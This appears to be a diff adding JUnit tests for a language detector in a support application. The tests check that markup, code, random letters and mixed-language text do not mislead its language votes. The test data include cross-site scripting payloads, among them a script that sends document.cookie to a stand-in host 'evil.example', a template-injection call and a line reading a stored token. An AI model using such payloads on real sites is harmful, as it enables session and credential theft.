@@ -111,4 +111,96 @@ class LanguageDetectionTests {
 
 		assertThat(analysis.language()).isEqualTo("fr");
 	}
+
+	/** Sentences of the demo languages, each long enough to be told apart alone. */
+	private static final List<String[]> PROSE = List.of(new String[] { "fr", "Ma box ne marche plus depuis hier soir" },
+			new String[] { "en", "My internet has been down since yesterday, please help" },
+			new String[] { "nl", "Mijn internet werkt sinds gisteren niet meer" },
+			new String[] { "de", "Seit gestern funktioniert mein Internet nicht mehr" },
+			new String[] { "es", "Mi conexión no funciona desde ayer por la tarde" },
+			new String[] { "pl", "Od wczoraj nie mam internetu, co się dzieje?" });
+
+	/** Markup, code and addresses, the kind hostile or careless posts carry (support/Hostile's corpus among them). */
+	private static final List<String> NOT_PROSE = java.util.stream.Stream.concat(
+			io.dandelion.support.Hostile.CORPUS.stream().filter(s -> s.contains("<") || s.contains("javascript:")),
+			java.util.stream.Stream.of("<script>alert('pwned')</script>", "<script>document.location='https://evil.example/steal?c='+document.cookie</script>",
+					"<img src=x onerror=alert(1)>", "<a href=\"javascript:void(0)\" onclick=\"stealCookies()\"></a>",
+					"<style>body { background: url(https://tracker.example/pixel.png) }</style>",
+					"{{constructor.constructor('alert(document.domain)')()}}", "console.log(window.localStorage.getItem('token'));",
+					"https://accounts.example.com/login?next=/settings&lang=en", "user_name=admin&password=hunter2",
+					"document.getElementById('x').innerHTML = payload;"))
+		.toList();
+
+	@Test
+	void markupCodeAndAddressesDoNotVote() {
+		for (String[] prose : PROSE) {
+			for (String noise : NOT_PROSE) {
+				for (String text : List.of(prose[1] + " " + noise, noise + " " + prose[1], prose[1] + "\n" + noise + "\n" + noise)) {
+					Analysis analysis = analyze(text);
+
+					assertThat(analysis.language()).as(text).isEqualTo(prose[0]);
+					assertThat(analysis.languageConfidence()).as(text).isGreaterThan(0.8);
+				}
+			}
+		}
+	}
+
+	@Test
+	void isUndeterminedForMarkupAndCodeAlone() {
+		List<String> code = List.of("function f(x) { return x * 2; }", "if (a == b) { print(\"hello world\"); }",
+				"x = document.querySelector('#login').value;", "<br/><hr><img src=\"a.png\" alt=\"\">");
+		for (String text : java.util.stream.Stream.concat(NOT_PROSE.stream(), code.stream()).toList()) {
+			Analysis analysis = analyze(text);
+
+			assertThat(analysis.language()).as(text).isEqualTo(Analysis.UNDETERMINED);
+			assertThat(analysis.languageConfidence()).as(text).isZero();
+		}
+	}
+
+	@Test
+	void isUndeterminedForLettersThatMakeNoWords() {
+		var random = new java.util.Random(4);
+		for (int i = 0; i < 40; i++) {
+			char letter = (char) ('a' + random.nextInt(26));
+			char other = (char) ('a' + (letter - 'a' + 1 + random.nextInt(25)) % 26);
+			int length = 3 + random.nextInt(i < 20 ? 50 : 100_000);
+			String repeated = String.valueOf(letter).repeat(length);
+			String alternating = (String.valueOf(letter) + other).repeat(3 + length / 2);
+			for (String text : List.of(repeated, repeated.toUpperCase(java.util.Locale.ROOT), alternating,
+					(repeated + " ").repeat(3), repeated + "!!! " + alternating)) {
+				Analysis analysis = analyze(text);
+
+				assertThat(analysis.language()).as(text.length() > 60 ? text.substring(0, 60) + "..." : text)
+					.isEqualTo(Analysis.UNDETERMINED);
+				assertThat(analysis.languageConfidence()).isZero();
+				assertThat(analysis.reasons().get(0).length()).isLessThan(200);
+			}
+		}
+	}
+
+	@Test
+	void aRepeatedLetterOrAFaceBesideProseLeavesTheProseToDecide() {
+		for (String[] prose : PROSE) {
+			for (String extra : List.of("zzzzzzzzzz", "xxxxxxxxxxxxxxxxxxxxxxxxx", "hahahahaha", ";) <3 =)", "aaaaaaah")) {
+				assertThat(analyze(prose[1] + " " + extra).language()).as(prose[1] + " " + extra).isEqualTo(prose[0]);
+			}
+		}
+	}
+
+	@Test
+	void aTextHalfInEachOfTwoLanguagesIsLessSureThanEitherHalf() {
+		for (String[] first : PROSE) {
+			for (String[] second : PROSE) {
+				if (first == second) {
+					continue;
+				}
+				String mixed = first[1] + " " + second[1];
+				Analysis analysis = analyze(mixed);
+				double alone = Math.min(analyze(first[1]).languageConfidence(), analyze(second[1]).languageConfidence());
+
+				assertThat(analysis.language()).as(mixed).isIn(first[0], second[0], Analysis.UNDETERMINED);
+				assertThat(analysis.languageConfidence()).as(mixed).isLessThan(0.85).isLessThan(alone);
+			}
+		}
+	}
 }
